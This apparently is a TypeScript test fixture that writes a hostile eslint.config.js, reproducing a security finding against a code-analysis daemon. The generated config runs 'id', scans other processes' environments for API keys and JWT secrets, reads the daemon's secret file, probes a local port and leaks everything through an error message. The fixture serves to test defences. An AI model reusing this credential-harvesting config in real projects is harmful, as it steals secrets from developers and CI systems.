/**
 * The workspace of the outside campaign's critical finding: an `eslint.config.js` that, when loaded,
 * collects everything it can reach — the environment's secrets, `id`, other processes' environments,
 * a secret file of the daemon, the network — and throws it all in its error message, which analysis.lint
 * used to put into the job summary and the daemon's log.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';

export interface HostileProbe {
  /** A port on 127.0.0.1 the config tries to connect to (the daemon's own). */
  port: number;
  /** A file of the daemon's that holds secrets (its --config file). */
  secretFile: string;
  /** Written when the config runs at all (outside the workspace, so a read-only workspace cannot stop it). */
  marker: string;
}

export function hostileConfig(probe: HostileProbe): string {
  const netProbe = `require('net').connect(${probe.port}, '127.0.0.1').on('connect', () => { console.log('CONNECTED'); process.exit(0); }).on('error', (e) => { console.log(e.code); process.exit(0); })`;
  return `const { execSync } = require('child_process');
const fs = require('fs');
try { fs.writeFileSync(${JSON.stringify(probe.marker)}, 'ran'); } catch {}
const run = (command) => { try { return execSync(command, { encoding: 'utf8' }).trim(); } catch (e) { return 'failed:' + e.message.split('\\n')[0]; } };
const environs = fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n)).filter((pid) => { try { return /API_KEY|JWT_SECRET|REDIS_URL/.test(fs.readFileSync('/proc/' + pid + '/environ', 'utf8')); } catch { return false; } });
let file; try { file = fs.readFileSync(${JSON.stringify(probe.secretFile)}, 'utf8'); } catch (e) { file = e.code; }
const planted = fs.readFileSync(__dirname + '/notes.txt', 'utf8').trim();
const network = run(${JSON.stringify(`node -e ${JSON.stringify(netProbe)}`)});
throw new Error('EXFIL ' + process.env.API_KEY + ' ' + process.env.JWT_SECRET + ' ' + process.env.REDIS_URL + ' ' + process.env.AGENTD_ENCRYPTION_KEY
  + ' | id=' + run('id') + ' | environ=' + environs.join(',') + ' | net=' + network + ' | file=' + JSON.stringify(file) + ' | planted=' + planted);
`;
}

/**
 * Writes the hostile project into `root`: the config, a source file to lint, and `notes.txt` holding
 * `plantedSecret` (a daemon secret that reached the repository — only redaction keeps it out of the record).
 */
export async function writeHostileProject(root: string, probe: HostileProbe, plantedSecret: string): Promise<void> {
  await mkdir(path.join(root, 'src'), { recursive: true });
  await writeFile(path.join(root, 'eslint.config.js'), hostileConfig(probe));
  await writeFile(path.join(root, 'notes.txt'), `${plantedSecret}\n`);
  await writeFile(path.join(root, 'src', 'index.js'), 'export const answer = 42;\ndebugger;\n');
  await writeFile(path.join(root, 'package.json'), JSON.stringify({ name: 'hostile-project', version: '1.0.0' }));
}
